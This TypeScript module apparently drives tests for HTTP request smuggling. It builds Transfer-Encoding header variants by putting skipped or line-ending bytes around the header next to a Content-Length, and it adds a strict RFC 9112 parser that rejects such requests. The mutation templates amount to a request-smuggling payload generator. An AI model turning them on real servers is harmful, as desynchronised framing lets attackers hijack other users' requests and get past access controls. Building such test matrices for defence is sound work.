// The classic of request smuggling, made from a list: one byte put into every place around a Transfer-Encoding, beside a
// Content-Length. Whoever reads the line gets one framing, whoever does not gets the other.

/** Bytes that parsers were found to skip, to trim, or to end a line at; and some that are plainly wrong. */
export const BYTES: readonly number[] = [
  ...Array.from({ length: 0x21 }, (_, code) => code),
  ...Buffer.from('"\'(,-./:;=\\_'),
  ...Array.from({ length: 0x81 }, (_, at) => at + 0x7f),
];

/** Where the byte stands in the lines. */
export const PLACES: Readonly<Record<string, (byte: string) => string>> = {
  'before the name': (byte) => `${byte}Transfer-Encoding: chunked`,
  'in the name': (byte) => `Transfer${byte}-Encoding: chunked`,
  'instead of the hyphen': (byte) => `Transfer${byte}Encoding: chunked`,
  'behind the name': (byte) => `Transfer-Encoding${byte}: chunked`,
  'instead of the colon': (byte) => `Transfer-Encoding${byte} chunked`,
  'before the value': (byte) => `Transfer-Encoding:${byte}chunked`,
  'in the value': (byte) => `Transfer-Encoding: chu${byte}nked`,
  'behind the value': (byte) => `Transfer-Encoding: chunked${byte}`,
  'behind the value and a comma': (byte) => `Transfer-Encoding: chunked,${byte}`,
  'behind a line, the name without its own': (byte) => `X: x${byte}Transfer-Encoding: chunked`,
  'behind a line and CR': (byte) => `X: x\r${byte}Transfer-Encoding: chunked`,
  'before LF and the line': (byte) => `X: x${byte}\nTransfer-Encoding: chunked`,
  'behind the line, the next one without its own': (byte) => `Transfer-Encoding: chunked${byte}X: x`,
  'behind the line and CR': (byte) => `Transfer-Encoding: chunked\r${byte}X: x`,
  'before LF behind the line': (byte) => `Transfer-Encoding: chunked${byte}\nX: x`,
  'before the Content-Length': (byte) => `X: x\r\n${byte}Transfer-Encoding: chunked\r\nX: x`,
};

/** The body that a reader of either framing finds whole: of a length, or the last chunk and nothing. */
export const BODY = '0\r\n\r\n';

/**
 * The fields as the backend may get them, or undefined where the request may not pass: read by the grammar of RFC 9112
 * and nothing else, since here a second opinion is wanted.
 */
export function fieldsOf(lines: string): readonly string[] | undefined {
  const fields: string[] = [];
  for (const line of lines.split('\r\n')) {
    const [, name = '', value = ''] =
      /^([!#$%&'*+\-.^_`|~0-9A-Za-z]+):[\t ]*((?:[!-~\x80-\xff](?:[\t -~\x80-\xff]*[!-~\x80-\xff])?)?)[\t ]*$/.exec(
        line,
      ) ?? [];
    // A length stands beside it: a coding, or what some servers take for one, is the end.
    if (name === '' || /^transfer[-_.]encoding$/i.test(name)) return undefined;
    fields.push(`${name}: ${value}`);
  }
  return fields;
}
